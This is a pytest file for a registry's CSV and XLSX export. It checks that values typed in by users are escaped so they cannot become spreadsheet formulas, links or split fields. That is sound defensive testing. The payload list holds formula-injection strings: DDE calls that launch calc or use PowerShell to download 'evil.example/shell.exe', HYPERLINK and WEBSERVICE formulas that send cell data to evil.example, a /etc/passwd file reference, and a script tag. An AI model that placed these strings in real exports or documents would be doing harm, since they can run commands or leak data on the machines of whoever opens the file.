"""What a firm writes into a name must stay a name: no export holds a formula, a link or a field that splits."""

import csv
import re
import zipfile
from io import BytesIO, StringIO

import pytest

from registry.sheets.csv_text import guarded, unguarded
from registry.sheets.layout import CoverLine, ListColumn
from registry.sheets.writing import write_table

PAYLOADS = (
    "=1+1",
    "=1+1+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTDATA("http://evil.example")',
    '=IMAGE("http://evil.example/a.png")',
    '=DDE("cmd";"/C calc";"x")',
    '=RTD("evil.server","","x")',
    '=CALL("kernel32","WinExec","JCJ","calc",0)',
    '=EXEC("calc.exe")',
    "='file:///etc/passwd'#$passwd.A1",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "={1,2}",
    "==1+1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "++1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=cmd|' /C calc'!A0",
    " =1+1",
    "   @A1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    '","=1+1',
    '"\r\n=1+1',
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a,=1+1",
    "http://evil.example",
    "mailto:x@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\evil.xlsx",
    "file://///evil.example/share",
    "<script>alert(1)</script>",
    "]]><f>1+1</f>",
    "_x003D_1+1",
    "&#61;1+1",
)
COLUMNS = [ListColumn("before", "前"), ListColumn("payload", "内容"), ListColumn("after", "后")]
FORMULA_STARTS = "=+-@＝＋－＠\t\r\n"


def written(form: str, payload: str) -> bytes:
    buffer = BytesIO()
    columns = [*COLUMNS, ListColumn("own", payload)]
    write_table(buffer, form, "名单", columns, [("甲", payload, "乙", payload)], [CoverLine("k", payload, payload)])  # type: ignore[arg-type]
    return buffer.getvalue()


def test_there_are_forty_payloads_or_more() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_holds_no_live_cell(payload: str) -> None:
    text = written("csv", payload).decode("utf-8-sig")
    header, row = csv.reader(StringIO(text, newline=""), strict=True)

    assert header[:3] == ["前", "内容", "后"]
    assert [row[0], row[2]] == ["甲", "乙"]
    for cell in (row[1], row[3], header[3]):
        assert not cell.lstrip(" \u00a0\u3000\ufeff\u200b").startswith(tuple(FORMULA_STARTS))
        assert unguarded(cell) == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_holds_no_formula_and_no_link(payload: str) -> None:
    with zipfile.ZipFile(BytesIO(written("xlsx", payload))) as package:
        parts = {name: package.read(name).decode() for name in package.namelist()}
    sheets = [xml for name, xml in parts.items() if name.startswith("xl/worksheets/sheet")]

    assert len(sheets) == 2
    for xml in sheets:
        assert not re.search(r"<f[\s>]|<hyperlink|t=\"str\"|<oleObject|r:id", xml)
        assert "<script" not in xml
    assert not [name for name in parts if "externalLink" in name or "connections" in name or name.endswith(".bin")]
    assert 'TargetMode="External"' not in "".join(parts.values())


@pytest.mark.parametrize("payload", [text for text in PAYLOADS if text[0] in FORMULA_STARTS])
def test_a_workbook_keeps_a_text_a_text_when_it_is_edited(payload: str) -> None:
    with zipfile.ZipFile(BytesIO(written("xlsx", payload))) as package:
        assert 'quotePrefix="1"' in package.read("xl/styles.xml").decode()


@pytest.mark.parametrize("payload", [*PAYLOADS, "", "普通", "'", "''", "'a", "O'Neill"])
def test_the_guard_can_be_taken_off_exactly(payload: str) -> None:
    assert unguarded(guarded(payload)) == payload


def test_numbers_are_not_guarded() -> None:
    buffer = BytesIO()
    write_table(buffer, "csv", "名单", [ListColumn("a", "数")], [(-5,)])

    assert buffer.getvalue().decode("utf-8-sig") == "数\r\n-5\r\n"
